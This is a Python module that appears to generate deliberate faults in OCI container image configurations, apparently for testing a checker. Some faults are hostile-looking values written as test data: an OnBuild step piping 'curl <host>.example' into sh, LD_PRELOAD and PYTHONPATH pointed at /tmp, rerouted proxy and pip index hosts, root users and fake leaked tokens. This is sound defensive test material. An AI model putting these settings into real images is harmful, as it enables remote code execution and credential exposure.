"""Faults in the configuration of an image (https://github.com/opencontainers/image-spec/blob/main/config.md)."""

from __future__ import annotations

import copy
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random
from typing import Any

from tests.mutations.chance import WORD, word
from trainyard.common.errors import StepFailed

#: Variables that change what Python, the dynamic linker, shells, networks or frameworks do, and their values.
_VARIABLES = {
    "LD_PRELOAD": "/tmp/{}.so", "LD_LIBRARY_PATH": "/tmp/{}", "PYTHONPATH": "/tmp/{}", "PYTHONSTARTUP": "/tmp/{}.py",
    "PYTHONHOME": "/opt/{}", "PYTHONOPTIMIZE": "2", "BASH_ENV": "/tmp/{}", "HTTPS_PROXY": "http://{}.example:3128",
    "PIP_INDEX_URL": "http://{}.example/simple", "REQUESTS_CA_BUNDLE": "/tmp/{}.pem", "CUDA_VISIBLE_DEVICES": "3",
    "TF_CPP_MIN_LOG_LEVEL": "3", "OMP_NUM_THREADS": "1", "MALLOC_ARENA_MAX": "1", "TZ": "{}", "LANG": "{}",
    "GOOGLE_APPLICATION_CREDENTIALS": "/tmp/{}.json", "AWS_SECRET_ACCESS_KEY": "{}", "DEBIAN_FRONTEND": "{}",
}  # fmt: skip


@dataclass(frozen=True)
class ConfigFault:
    """A fault in the configuration.

    Attributes:
        what: one line about it.
        places: words, of which a finding that concerns it has one.
    """

    kind: str
    what: str
    places: tuple[str, ...]
    config: dict[str, Any]


ConfigOperator = Callable[[Random, dict[str, Any]], ConfigFault]


def _settings(image: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    """A copy of an image's document, and the part of it that containers start with."""
    config = copy.deepcopy(image)
    settings = config.setdefault("config", {})
    return config, settings


def new_variable(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """An environment variable more."""
    config, settings = _settings(image)
    present = {line.partition("=")[0] for line in settings.get("Env") or []}
    known = [name for name in _VARIABLES if name not in present]
    name = rng.choice(known) if rng.random() < 0.7 else word(rng).upper()
    value = _VARIABLES.get(name, "{}").format(word(rng))
    settings["Env"] = [*(settings.get("Env") or []), f"{name}={value}"]
    return ConfigFault("variable added", f"variable {name}={value} added", (name,), config)


def other_variable(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """An environment variable has another value."""
    config, settings = _settings(image)
    lines = _present(settings, "Env")
    at = rng.randrange(len(lines))
    name, _, value = lines[at].partition("=")
    other = rng.choice([f"/tmp/{word(rng)}:{value}", f"{value}{word(rng, 1)}", word(rng)])
    lines[at] = f"{name}={other}"
    return ConfigFault("variable changed", f"variable {name}={other} instead of {value}", (name,), config)


def removed_variable(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """An environment variable is missing."""
    config, settings = _settings(image)
    lines = _present(settings, "Env")
    name = lines.pop(rng.randrange(len(lines))).partition("=")[0]
    return ConfigFault("variable removed", f"variable {name} removed", (name,), config)


def new_label(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """A label more."""
    config, settings = _settings(image)
    own = f"com.{word(rng)}.{word(rng)}"
    name = rng.choice([word(rng), own, f"org.opencontainers.image.{word(rng)}", "maintainer"])
    settings["Labels"] = {**(settings.get("Labels") or {}), name: word(rng)}
    return ConfigFault("label added", f"label {name}={settings['Labels'][name]} added", (name,), config)


def other_label(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """A label has another value."""
    config, settings = _settings(image)
    labels = _present(settings, "Labels")
    name = rng.choice(sorted(labels))
    value, labels[name] = labels[name], word(rng)
    return ConfigFault("label changed", f"label {name}={labels[name]} instead of {value}", (name,), config)


def removed_label(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """A label is missing."""
    config, settings = _settings(image)
    labels = _present(settings, "Labels")
    name = rng.choice(sorted(labels))
    del labels[name]
    return ConfigFault("label removed", f"label {name} removed", (name,), config)


def _present(settings: dict[str, Any], key: str) -> Any:
    if not settings.get(key):
        raise StepFailed(f"the image has no {key} in its configuration: use an image that has")
    return settings[key]


def entrypoint(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """Another program is started, or none."""
    others = [["/bin/sh", "-c", word(rng)], [f"/tmp/{word(rng)}"], ["python"], None]
    return _other(rng, image, "entrypoint", "Entrypoint", others, "entrypoint")


def arguments(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """The program gets other arguments."""
    others = [[f"--{word(rng)}"], ["sleep", "infinity"], ["/bin/bash", "-l"]]
    return _other(rng, image, "cmd", "Cmd", others, "cmd", "command", "arguments")


def user(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """Containers run as another user."""
    return _other(rng, image, "user", "User", ["root", "0", "", "0:0", "65534", word(rng)], "user", "uid")


def folder(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """Containers start in another folder."""
    others = ["/", "/root", f"/tmp/{word(rng)}", f"/{word(rng)}"]
    places = ("workingdir", "working directory", "workdir", "working folder")
    return _other(rng, image, "working directory", "WorkingDir", others, *places)


def port(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """A port is exposed."""
    number = f"{rng.randrange(1, 65536)}/{rng.choice(['tcp', 'udp'])}"
    return _other(rng, image, "port", "ExposedPorts", [{number: {}}], "port", "exposedports", number)


def volume(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """A folder is a volume."""
    path = rng.choice(["/workspace", "/tmp", f"/{word(rng)}", "/opt"])
    return _other(rng, image, "volume", "Volumes", [{path: {}}], "volume", path)


def stop_signal(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """Containers are stopped with another signal."""
    others = ["SIGKILL", "SIGINT", "9", "SIGQUIT"]
    return _other(rng, image, "stop signal", "StopSignal", others, "stop signal", "stopsignal")


def health_check(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """The engine runs a command every few seconds."""
    test = {"Test": ["CMD-SHELL", f"curl {word(rng)}.example"], "Interval": rng.randrange(1, 60) * 10**9}
    return _other(rng, image, "health check", "Healthcheck", [test], "healthcheck", "health check")


def trigger(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """Images that are built on this one run a command."""
    return _other(rng, image, "trigger", "OnBuild", [[f"RUN curl {word(rng)}.example | sh"]], "onbuild", "trigger")


def shell(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """RUN of images that are built on this one uses another shell."""
    others = [["/bin/bash", "-euo", "pipefail", "-c"], ["/bin/bash", "-c"], ["/usr/bin/python3"], [f"/tmp/{word(rng)}"]]
    return _other(rng, image, "shell", "Shell", others, "shell")


def architecture(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """The image says that it is for another processor or system."""
    config = copy.deepcopy(image)
    key, others = rng.choice([("architecture", ["arm64", "amd64", "riscv64", "386"]), ("os", ["freebsd", "windows"])])
    config[key] = rng.choice([one for one in others if one != image.get(key)])
    places = (key, *(["operating system", "platform"] if key == "os" else ["platform", "processor"]))
    return ConfigFault(key, f"{key} {config[key]} instead of {image.get(key)}", places, config)


def author(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """The image has another author."""
    config = copy.deepcopy(image)
    config["author"] = f"{word(rng)} <{word(rng)}@{word(rng)}.example>"
    return ConfigFault("author", f"author {config['author']}", ("author",), config)


def secret_in_history(rng: Random, image: dict[str, Any]) -> ConfigFault:
    """An instruction of the history has a credential."""
    config = copy.deepcopy(image)
    name = rng.choice(["API_KEY", "PASSWORD", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "HF_TOKEN", word(rng).upper()])
    credential = rng.choice([
        f"ghp_{word(rng, 36, WORD)}", f"hf_{word(rng, 34, WORD)}", f"AKIA{word(rng, 16, WORD.upper())}",
        f"https://{word(rng)}:{word(rng, 20, WORD)}@git.example/{word(rng)}", f"glpat-{word(rng, 20, WORD)}",
    ])  # fmt: skip
    instruction = rng.choice([
        f"RUN |1 {name}={credential} /bin/sh -c make # buildkit", f"ARG {name}={credential}",
        f"RUN /bin/sh -c curl -H 'Authorization: Bearer {credential}' {word(rng)}.example # buildkit",
    ])  # fmt: skip
    history = config.setdefault("history", [])
    history.insert(rng.randrange(len(history) + 1), {"created_by": instruction, "empty_layer": True})
    return ConfigFault("credential in the history", f"history has {instruction}", ("history", name), config)


def _other(
    rng: Random, image: dict[str, Any], kind: str, key: str, options: Sequence[Any], *places: str
) -> ConfigFault:
    """Give a property of containers one of the values that it does not have; remove it if that is empty."""
    config, settings = _settings(image)
    before = settings.pop(key, None) or None
    value = rng.choice([one for one in options if (one or None) != before])
    if value:
        settings[key] = value
    return ConfigFault(kind, f"{key} {value!r} instead of {before!r}", places, config)


OPERATORS: tuple[ConfigOperator, ...] = (
    new_variable, other_variable, removed_variable, new_label, other_label, removed_label, entrypoint, arguments, user,
    folder, port, volume, stop_signal, health_check, trigger, shell, architecture, author, secret_in_history,
)  # fmt: skip
